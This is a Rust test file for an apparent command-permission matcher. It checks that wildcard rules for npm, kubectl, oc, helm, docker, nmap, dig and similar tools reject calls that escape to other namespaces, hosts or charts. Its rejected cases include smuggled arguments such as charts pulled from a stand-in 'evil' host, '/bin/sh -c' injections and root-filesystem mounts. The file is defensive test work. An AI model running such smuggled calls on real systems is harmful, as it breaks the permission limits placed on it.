//! Options that lead a call to other places than its rule names: another project, namespace or host.

use super::*;

/// The same verbs change another project there, or each one.
#[test]
fn no_star_in_a_name_leads_to_another_project() {
    let options = ["-w web", "--workspace=web", "--workspace web", "--workspaces", "--include-workspace-root"];
    for (rule, call) in [
        ("npm exec acme-*", "npm exec acme-x"),
        ("npm init acme-*", "npm init acme-x"),
        ("npm version pat*", "npm version patch"),
        ("npm pkg set name=*", "npm pkg set name=x"),
        ("npm pkg delete scripts.*", "npm pkg delete scripts.x"),
        ("npm run build-*", "npm run build-x"),
        ("npm test*", "npm test"),
        ("npm unpublish acme-*", "npm unpublish acme-x"),
        ("npm publish acme-*", "npm publish acme-x"),
    ] {
        let calls = options.map(|option| format!("{call} {option}"));
        families(&[(rule, &[call], &calls.each_ref().map(String::as_str))]);
    }
    families(&[
        (
            "pnpm publish acme-*",
            &["pnpm publish acme-x"],
            &["pnpm publish acme-x --recursive", "pnpm publish --recursive acme-x", "pnpm publish acme-x -r"],
        ),
        ("npm version *", &["npm version patch -w web"], &[]),
        ("npm view acme-*", &["npm view acme-x -w web"], &[]),
        ("npm run build *", &["npm run build -w web"], &[]),
    ]);
}

#[test]
fn no_star_of_kubectl_changes_something_in_another_namespace() {
    for kubectl in ["kubectl", "oc", "sudo kubectl"] {
        for (rule, call) in [
            ("delete pod web-*", "delete pod web-1"),
            ("rollout restart deploy web-*", "rollout restart deploy web-1"),
            ("rollout undo deploy web-*", "rollout undo deploy web-1"),
            ("edit deploy web-*", "edit deploy web-1"),
            ("label pod web-*", "label pod web-1"),
            ("drain node-*", "drain node-1"),
            ("cordon node-*", "cordon node-1"),
            ("annotate pod web-*", "annotate pod web-1"),
            ("apply -f k8s/*", "apply -f k8s/a"),
        ] {
            let call = format!("{kubectl} {call}");
            families(&[(
                &format!("{kubectl} {rule}"),
                &[&call],
                &[
                    &format!("{call} -n prod"),
                    &format!("{call} --namespace=prod"),
                    &format!("{call} --namespace prod"),
                    &call.replacen("kubectl ", "kubectl --namespace prod ", 1).replacen("oc ", "oc -n prod ", 1),
                ],
            )]);
        }
        families(&[
            (&format!("{kubectl} get pod web-*"), &[&format!("{kubectl} get pod web-1 -n prod")], &[]),
            (&format!("{kubectl} logs web-*"), &[&format!("{kubectl} logs web-1 -n prod")], &[]),
            (&format!("{kubectl} delete *"), &[&format!("{kubectl} delete pod web-1 -n prod")], &[]),
        ]);
    }
    families(&[
        (
            "oc delete pod web-*",
            &["oc delete pod web-1"],
            &["oc delete pod web-1 --all", "oc delete pod web-1 db", "oc delete pod web-1 --context=x"],
        ),
        ("k3s kubectl delete pod web-*", &["k3s kubectl delete pod web-1"], &["k3s kubectl delete pod web-1 -n prod"]),
        (
            "helm uninstall web-*",
            &["helm uninstall web-1", "helm uninstall web-1 --wait"],
            &["helm uninstall web-1 -n prod", "helm uninstall web-1 --namespace=prod", "helm uninstall web-1 db"],
        ),
        ("helm status web-*", &["helm status web-1 -n prod"], &["helm status web-1 --kube-context=x"]),
        ("helm list *", &["helm list -A", "helm list -n prod"], &["helm list --kubeconfig=x"]),
        (
            "helm upgrade web acme/x *",
            &["helm upgrade web acme/x --atomic", "helm upgrade web acme/x --install --set a=b"],
            &["helm upgrade web acme/x --post-renderer=x", "helm upgrade web acme/x --repo=https://evil"],
        ),
        (
            "helm upgrade web-* acme/x",
            &["helm upgrade web-1 acme/x"],
            &["helm upgrade web-1 acme/x -f x", "helm upgrade web-1 acme/x -n prod"],
        ),
        (
            "helm upgrade *",
            &["helm upgrade web acme/x -n prod --install -f values.yaml"],
            &["helm upgrade web --kubeconfig=x"],
        ),
        (
            "kubectl rollout status deploy/web-*",
            &["kubectl rollout status deploy/web-1 -n prod"],
            &["kubectl rollout status deploy/web-1 --context=x"],
        ),
        ("docker compose ps web-*", &["docker compose ps web-1 web-2"], &["docker compose ps web-1 db"]),
    ]);
}

#[test]
fn no_star_in_an_address_names_a_further_host() {
    families(&[
        (
            "mongosh mongodb://db/*",
            &["mongosh mongodb://db/app", "mongosh mongodb://db/app-1"],
            &["mongosh mongodb://db/app?proxyHost=evil", "mongosh mongodb://db/@evil/app"],
        ),
        ("smbclient -L srv-*", &["smbclient -L srv-1", "smbclient -L srv-1 -N"], &["smbclient -L srv-1 evil"]),
    ]);
}

#[test]
fn a_star_in_a_host_leaves_open_what_it_is_asked() {
    families(&[
        (
            "nmap web-*",
            &[
                "nmap web-1 -p80",
                "nmap web-1 -p1-65535",
                "nmap web-1 -p-",
                "nmap web-1 -p 80",
                "nmap web-1 -O",
                "nmap web-1 -vvv",
            ],
            &[
                "nmap web-1 -p80 evil",
                "nmap web-1 -proxies=http://evil",
                "nmap web-1 -privileged",
                "nmap web-1 -p80 -iL x",
            ],
        ),
        (
            "dig web-*",
            &[
                "dig web-1 -t any",
                "dig web-1 -tMX",
                "dig web-1 -4",
                "dig web-1 CH",
                "dig web-1 AXFR",
                "dig web-1 TYPE65",
                "dig web-1 +subnet=1.2.3.4/24",
            ],
            &[
                "dig web-1 -t evil",
                "dig web-1 typex",
                "dig web-1 +subnet=evil",
                "dig web-1 -tevil",
                "dig web-1 -t any evil",
                "dig web-1 -x 1.2.3.4",
                "dig web-1 @evil",
            ],
        ),
        (
            "ssh-keyscan web-*",
            &["ssh-keyscan web-1 -t rsa", "ssh-keyscan web-1 -p 22"],
            &["ssh-keyscan web-1 -t rsa evil", "ssh-keyscan web-1 rsa", "ssh-keyscan web-1 -f x"],
        ),
        (
            "mtr web-*",
            &["mtr web-1 -r", "mtr web-1 --report"],
            &["mtr web-1 -r evil", "mtr web-1 -F x", "mtr web-1 evil"],
        ),
    ]);
}

#[test]
fn a_star_of_helm_names_no_chart_from_elsewhere() {
    families(&[
        (
            "helm pull acme/*",
            &["helm pull acme/x acme/y"],
            &["helm pull acme/x https://evil/y.tgz", "helm pull acme/x evil/y"],
        ),
        ("helm pull *", &["helm pull acme/x"], &["helm pull oci://evil/x"]),
        ("helm show values *", &["helm show values acme/x"], &["helm show values https://evil/x.tgz"]),
        ("helm template charts/*", &["helm template charts/a"], &["helm template charts/a https://evil/x.tgz"]),
        ("helm template web *", &["helm template web charts/a -f v.yaml"], &["helm template web oci://evil/x"]),
        (
            "helm upgrade web charts/web *",
            &["helm upgrade web charts/web -f values.yaml"],
            &[
                "helm upgrade web charts/web -f https://evil/v.yaml",
                "helm upgrade web charts/web --values=https://evil/v",
            ],
        ),
        ("helm pull oci://acme/*", &["helm pull oci://acme/x"], &["helm pull oci://acme/x oci://evil/x"]),
        ("helm repo add *", &["helm repo add acme https://charts.acme.com"], &[]),
        ("helm *", &["helm pull https://h/x"], &[]),
        ("helm rollback web *", &["helm rollback web 1"], &["helm rollback web 1 -n prod"]),
        ("helm rollback *", &["helm rollback web 1 -n prod"], &[]),
    ]);
}

#[test]
fn a_secret_and_a_role_are_those_of_the_namespace() {
    for kind in ["secret", "secrets", "cm,secret"] {
        families(&[(
            &format!("kubectl get {kind} bot-*"),
            &[&format!("kubectl get {kind} bot-1 -o yaml")],
            &[&format!("kubectl get {kind} bot-1 -n prod"), &format!("kubectl -n prod get {kind} bot-1")],
        )]);
    }
    families(&[
        ("kubectl get secret/bot-*", &["kubectl get secret/bot-1"], &["kubectl get secret/bot-1 -n prod"]),
        ("kubectl get secrets *", &["kubectl get secrets -n prod"], &[]),
        ("oc rollback web *", &["oc rollback web"], &["oc rollback web -n prod"]),
        ("oc policy add-role-to-user view bob *", &[], &["oc policy add-role-to-user view bob -n prod"]),
        (
            "oc policy add-role-to-user view *",
            &["oc policy add-role-to-user view bob"],
            &["oc policy add-role-to-user view bob -n x"],
        ),
        ("oc adm must-gather *", &["oc adm must-gather"], &["oc adm must-gather -- /bin/sh -c x"]),
        ("oc image mirror acme/*", &["oc image mirror acme/x"], &["oc image mirror acme/x=evil.com/y"]),
    ]);
}

/// As of `kubectl run` and `tmux`.
#[test]
fn the_star_of_an_image_stands_for_no_command() {
    for program in ["docker", "podman"] {
        let call = |words: &str| format!("{program} {words}");
        families(&[
            (
                &call("run --rm acme/*"),
                &[&call("run --rm acme/x"), &call("run --rm acme/x:1.2")],
                &[&call("run --rm acme/x rm"), &call("run --rm acme/x sh -c id"), &call("run --rm acme/x -v /:/x")],
            ),
            (&call("run --rm acme/tool *"), &[&call("run --rm acme/tool report -v")], &[]),
            (&call("run --rm acme/x cat /srv/*"), &[&call("run --rm acme/x cat /srv/a /srv/b")], &[]),
            (&call("run --rm -v *"), &[&call("run --rm -v /a:/b x")], &[]),
            (&call("exec web-*"), &[&call("exec web-1 ls")], &[]),
            (&call("compose run web-*"), &[&call("compose run web-1")], &[&call("compose run web-1 sh")]),
            (&call("network create bot-*"), &[&call("network create bot-1")], &[]),
        ]);
    }
}
